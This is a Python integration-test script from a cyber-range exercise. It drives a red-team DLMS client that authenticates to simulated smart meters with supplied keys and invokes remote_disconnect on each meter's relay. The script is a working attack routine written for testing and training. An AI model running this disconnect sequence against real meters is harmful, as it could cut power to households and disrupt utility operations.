"""A red team's DLMS client against a live exercise's DLMS port: the Gurux DLMS library for
Python (gurux-dlms 1.0.203, GPLv2, run as an external test program only; never linked into or
copied into amirange). tests/it/dlms_exercise.rs starts the exercise, clones a meter through
the range, and runs this script with the keys red's snapshot lists:

    python3 tests/gurux/red_disconnect.py HOST PORT BLOCK_KEY_HEX AUTH_KEY_HEX WPORT...

For each server wPort it associates as client 1 with HLS-GMAC and security suite 0, reads the
relay's output state and invokes remote_disconnect, printing one line per meter:
"wport W: disconnected (error E)", "wport W: refused (...)" or "wport W: no answer".
"""

import socket
import sys

from gurux_dlms.enums import Authentication, DataType, InterfaceType, Security
from gurux_dlms.objects import GXDLMSDisconnectControl
from gurux_dlms.secure import GXDLMSSecureClient

from link import Link

host, port, block_key, auth_key = sys.argv[1:5]
wports = [int(w) for w in sys.argv[5:]]
# Red's own system title: "RED" and five bytes.
RED_TITLE = b"RED\x00\x00\x00\x00\x01"


for wport in wports:
    # A connection per meter, closed before the next.
    link = Link(host, port, 5)
    client = GXDLMSSecureClient(True, 1, wport, Authentication.HIGH_GMAC, None, InterfaceType.WRAPPER)
    client.ciphering.security = Security.AUTHENTICATION_ENCRYPTION
    client.ciphering.systemTitle = RED_TITLE
    client.ciphering.blockCipherKey = bytes.fromhex(block_key)
    client.ciphering.authenticationKey = bytes.fromhex(auth_key)
    try:
        reply = link.exchange(client, client.aarqRequest())
        client.parseAareResponse(reply.data)
        reply = link.exchange(client, client.getApplicationAssociationRequest())
        client.parseApplicationAssociationResponse(reply.data)
        relay = GXDLMSDisconnectControl("0.0.96.3.10.255")
        reply = link.exchange(client, client.method(relay, 1, 0, DataType.INT8))
        print(f"wport {wport}: disconnected (error {reply.error})", flush=True)
    except socket.timeout:
        print(f"wport {wport}: no answer", flush=True)
    except Exception as error:  # Gurux raises on a rejected association
        print(f"wport {wport}: refused ({type(error).__name__}: {error})", flush=True)
    link.sock.close()
print("red: done")
